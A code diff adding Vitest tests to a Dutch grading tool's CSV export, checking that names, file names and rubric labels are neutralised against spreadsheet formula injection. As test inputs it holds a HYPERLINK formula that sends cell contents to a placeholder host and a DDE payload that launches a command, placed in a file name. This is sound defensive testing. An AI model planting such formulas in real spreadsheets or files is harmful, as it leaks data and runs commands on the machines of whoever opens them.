@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { lint } from "../../src/api.js";
-import { csvField, gradesCsv } from "../../src/grade/csv.js";
+import { csvField, csvText, gradesCsv } from "../../src/grade/csv.js";
 import { gradeScripts } from "../../src/grade/graded.js";
 import { resolveRubric } from "../../src/grade/rubric.js";
 import { builtinRules } from "../../rules/index.js";
@@ -41,5 +41,35 @@ describe("cijfers.csv", () => {
     expect(csvField("a;b")).toBe('"a;b"');
     expect(csvField('zei "hoi"')).toBe('"zei ""hoi"""');
     expect(csvField("twee\nregels")).toBe('"twee\nregels"');
+  });
+
+  it("neutraliseert formules uit namen, bestandsnamen en rubriclabels, maar laat getallen staan", async () => {
+    const labelled = resolveRubric(
+      { criteria: { greeting: { label: "@SUM(1+1)", points: 150 } } },
+      { known, enabled: new Set(known) },
+      "rubric",
+    );
+    const attack = await lint(`---\nstudent: '=HYPERLINK("http://voorbeeld.nl/?"&A1,"klik")'\n---\nAgent: Hoi, zeg het maar.\n`, {
+      filePath: "/klas/a.txt",
+      keepSource: true,
+    });
+    const named = await lint("Agent: Goedemiddag, u spreekt met Kim van Enerva.\n", { filePath: "/klas/+cmd|' -C calc'!A0.txt", keepSource: true });
+    const graded = gradeScripts([attack, named], labelled, (path) => path.replace("/klas/", ""));
+    const [header, ...rows] = parseCsv(gradesCsv(graded, labelled, { decimalComma: true }).slice(1));
+    expect(header).toContain("'@SUM(1+1) (greeting): punten af");
+    expect(rows[0]!.slice(0, 2)).toEqual(["a.txt", `'=HYPERLINK("http://voorbeeld.nl/?"&A1,"klik")`]);
+    expect(rows[1]!.slice(0, 2)).toEqual(["'+cmd|' -C calc'!A0.txt", "'+cmd|' -C calc'!A0"]);
+    // A rubric of 150 points off makes the total 0, never a neutralised "-50".
+    expect(rows[0]![2]).toBe("0");
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it("zet een apostrof voor tekst die met =, +, -, @, tab of CR begint", () => {
+    expect(csvText("=1+1")).toBe("'=1+1");
+    expect(csvText("-2")).toBe("'-2");
+    expect(csvText("\tx")).toBe("'\tx");
+    expect(csvText("\rx")).toBe(`"'\rx"`);
+    expect(csvText("Sanne")).toBe("Sanne");
+    expect(csvField("-2")).toBe("-2");
   });
 });
